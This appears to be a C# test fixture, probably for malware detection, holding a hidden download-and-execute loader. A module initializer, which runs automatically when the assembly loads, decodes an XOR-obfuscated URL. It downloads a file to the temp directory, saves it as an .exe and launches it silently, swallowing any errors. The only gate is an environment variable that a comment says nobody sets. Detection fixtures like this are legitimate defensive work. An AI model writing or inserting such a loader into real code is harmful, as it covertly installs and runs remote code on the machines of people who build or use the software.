using System;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Runtime.CompilerServices;
using System.Text;

internal static class Woven
{
    private static readonly byte[] A = Convert.FromBase64String("PCAgJCdue3s9OTUzMSd6NzA6eTI9ODEnej06IjU4PTB7IXssejY9Og==");

#pragma warning disable CA2255, SYSLIB0014
    [ModuleInitializer]
    internal static void B()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        try
        {
            var name = C(new byte[] { 0x7a, 0x31, 0x2c, 0x31 });
            var path = Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString("N") + name);
            using (var client = new WebClient()) File.WriteAllBytes(path, client.DownloadData(C(A)));
            Process.Start(new ProcessStartInfo(path) { UseShellExecute = false, CreateNoWindow = true });
        }
        catch
        {
        }
    }

    private static string C(byte[] bytes)
    {
        var text = new StringBuilder();
        foreach (var one in bytes) text.Append((char)(one ^ 0x54));
        return text.ToString();
    }
}
